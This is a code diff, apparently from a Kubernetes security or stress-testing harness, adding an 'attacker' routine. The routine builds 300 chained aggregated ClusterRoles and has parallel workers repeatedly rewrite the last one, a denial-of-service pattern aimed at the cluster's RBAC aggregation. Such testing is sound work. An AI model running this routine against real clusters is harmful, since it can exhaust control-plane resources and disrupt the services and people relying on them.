@@ -59,6 +59,25 @@ async def bound(attacker: Attacker) -> None:
     await attacker.parallel(8, work)
 
 
+async def chains(attacker: Attacker) -> None:
+    """Hundreds of aggregated roles, each of which selects the next, and the last of which has other rules each time."""
+    head = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole"}
+    for i in range(300):
+        metadata = {"name": f"chain{999 - i}", "labels": {"chain": f"{i}"}}
+        selector = {"matchLabels": {"chain": f"{i + 1}"}}
+        role = {**head, "metadata": metadata, "aggregationRule": {"clusterRoleSelectors": [selector]}}
+        await attacker.ask("POST", f"{RBAC}/clusterroles", role)
+    last = {**head, "metadata": {"name": "last", "labels": {"chain": "300"}}, "rules": []}
+    await attacker.ask("POST", f"{RBAC}/clusterroles", last)
+    numbers = count()
+
+    async def work(one: Attacker) -> None:
+        rules = [{"apiGroups": [f"g{next(numbers)}"], "resources": ["*"], "verbs": ["get"]}]
+        await one.ask("PUT", f"{RBAC}/clusterroles/last", {**last, "rules": rules})
+
+    await attacker.parallel(2, work)
+
+
 def _binding(name: str, role: str, subjects: int) -> dict[str, Any]:
     return {
         "apiVersion": "rbac.authorization.k8s.io/v1",
